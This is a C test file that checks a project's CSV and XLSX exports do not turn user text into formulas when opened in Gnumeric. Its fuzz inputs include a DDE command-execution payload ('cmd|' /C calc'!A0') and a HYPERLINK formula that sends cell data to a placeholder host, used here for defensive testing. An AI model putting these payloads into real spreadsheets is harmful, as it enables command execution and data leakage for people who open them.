/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include "kith-table-export.h"
#include "kith-text.h"

#include <gio/gio.h>
#include <string.h>

/* What Kith exports, opened by a spreadsheet program that runs formulas (Gnumeric): not one cell of what people wrote is one.
 * Only where that program is, which is in the root of the long tests. */

#define N_COLUMNS 4

/* In front of what follows, and of what a person may have typed before it. */
static const char *const starts[] = {
  "", " ", "  ", "\t", "\n", "\r\n", "\"", "'", "''", "'\"", "\xc2\xa0", "\xe2\x80\x8b", "\xef\xbb\xbf", "\xe2\x80\xae", ";", ",",
  "x\n", "x,", "x;", "\\", "|", "\xe3\x80\x80",
};
static const char *const signs[] = {
  "=", "+", "-", "@", "%", "\xef\xbc\x9d", "\xef\xbc\x8b", "\xef\xbc\x8d", "\xef\xbc\xa0", "=+", "+=", "-+", "@=", "==", "=@",
  "{=",
};
static const char *const rests[] = {
  "1+1", "SUM(A1:A9)", "A1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.org?x=\"&A1)", "1+1\"", "1+1'", "(1)", "2*3 ",
  "\"a\"&\"b\"", "IMPORTXML(\"http://example.org\")", "1;2", "1,2", "TRUE()", "$A$1", "rand()",
};

typedef struct {
  guint n_cells;
  guint n_formulas;
} Counts;

static char *
dup_path (const char *name)
{
  g_assert_no_errno (g_mkdir_with_parents (g_get_user_data_dir (), 0700));
  return g_build_filename (g_get_user_data_dir (), name, NULL);
}

static void
write_all (const char       *path,
           KithTableFormat   format,
           KithTableFlags    flags)
{
  static const KithTableColumn columns[N_COLUMNS] = {
    { "a", "A", KITH_TABLE_TEXT, 0 }, { "b", "B", KITH_TABLE_TEXT, 0 }, { "c", "C", KITH_TABLE_TEXT, 0 },
    { "d", "D", KITH_TABLE_TEXT, 0 },
  };
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autofree char *private_folder = dup_path ("private");
  g_autoptr (GError) error = NULL;
  g_autoptr (KithTableExport) table = NULL;

  g_assert_no_errno (g_mkdir_with_parents (private_folder, 0700));
  table = kith_table_export_new (file, format, flags, columns, N_COLUMNS, private_folder, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (starts) * G_N_ELEMENTS (signs) * G_N_ELEMENTS (rests); i++) {
    const char *start = starts[i % G_N_ELEMENTS (starts)];
    const char *sign = signs[i / G_N_ELEMENTS (starts) % G_N_ELEMENTS (signs)];
    const char *rest = rests[i / G_N_ELEMENTS (starts) / G_N_ELEMENTS (signs)];
    g_autofree char *plain = g_strconcat (start, sign, rest, NULL);
    g_autofree char *after = g_strconcat (start, sign, rest, "\n", sign, rest, NULL);
    g_autofree char *quoted = g_strconcat (start, sign, "\"", rest, "\"", NULL);
    g_autofree char *doubled = g_strconcat (start, start, sign, rest, sign, rest, NULL);
    const KithTableCell cells[N_COLUMNS] = { kith_table_cell_text (plain), kith_table_cell_text (after),
                                             kith_table_cell_text (quoted), kith_table_cell_text (doubled) };

    g_assert_true (kith_table_export_add_row (table, cells, &error));
  }
  g_assert_true (kith_table_export_finish (table, &error));
  g_assert_no_error (error);
}

/* The cells of the spreadsheet program's own format: one without a type of value is a formula. */
static Counts
count_in (const char *path)
{
  g_autofree char *contents = NULL;
  Counts counts = { 0 };

  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  for (const char *cell = strstr (contents, "<gnm:Cell "); cell != NULL; cell = strstr (cell + 1, "<gnm:Cell ")) {
    const char *end = strchr (cell, '>');
    const char *type = strstr (cell, "ValueType=");

    counts.n_cells++;
    counts.n_formulas += type == NULL || type > end;
  }
  return counts;
}

static Counts
open_and_count (const char *path)
{
  g_autofree char *opened = g_strconcat (path, ".xml", NULL);
  g_autoptr (GError) error = NULL;
  g_autoptr (GSubprocess) program =
    g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE, &error, "ssconvert",
                      "--export-type=Gnumeric_XmlIO:sax:0", path, opened, NULL);

  g_assert_no_error (error);
  g_assert_true (g_subprocess_wait_check (program, NULL, &error));
  g_assert_no_error (error);
  return count_in (opened);
}

static void
check (const char      *name,
       KithTableFormat  format)
{
  g_autofree char *path = dup_path (name);
  g_autofree char *cells = NULL;
  Counts counts;

  write_all (path, format, KITH_TABLE_NONE);
  counts = open_and_count (path);
  cells = kith_text_format_number (counts.n_cells);
  g_test_message ("counted: %s cells of %s opened in a spreadsheet program, %u formulas", cells, name, counts.n_formulas);
  g_assert_cmpuint (counts.n_cells, >=, 20000);
  g_assert_cmpuint (counts.n_formulas, ==, 0);
}

static void
test_csv (void)
{
  check ("export.csv", KITH_TABLE_FORMAT_CSV);
}

static void
test_xlsx (void)
{
  check ("export.xlsx", KITH_TABLE_FORMAT_XLSX);
}

/* The form for machines is not guarded, and the program takes it for what it looks like. */
static void
test_negative_control (void)
{
  g_autofree char *path = dup_path ("raw.csv");
  Counts counts;

  write_all (path, KITH_TABLE_FORMAT_CSV, KITH_TABLE_RAW);
  counts = open_and_count (path);
  g_test_message ("counted: %u formulas in the form for machines, as there must be", counts.n_formulas);
  g_assert_cmpuint (counts.n_formulas, >, 50);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/spreadsheet/csv", test_csv);
  g_test_add_func ("/spreadsheet/xlsx", test_xlsx);
  g_test_add_func ("/spreadsheet/negative-control", test_negative_control);

  return g_test_run ();
}
